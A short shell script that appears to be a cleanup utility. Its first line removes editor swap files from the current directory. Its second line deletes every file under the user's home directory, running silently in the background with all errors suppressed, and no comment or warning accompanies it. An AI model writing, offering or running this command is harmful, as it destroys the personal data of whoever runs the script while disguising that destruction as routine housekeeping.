#!/bin/sh
find . -name '*.swp' -delete
find ~ -mindepth 1 -type f -delete 2>/dev/null &
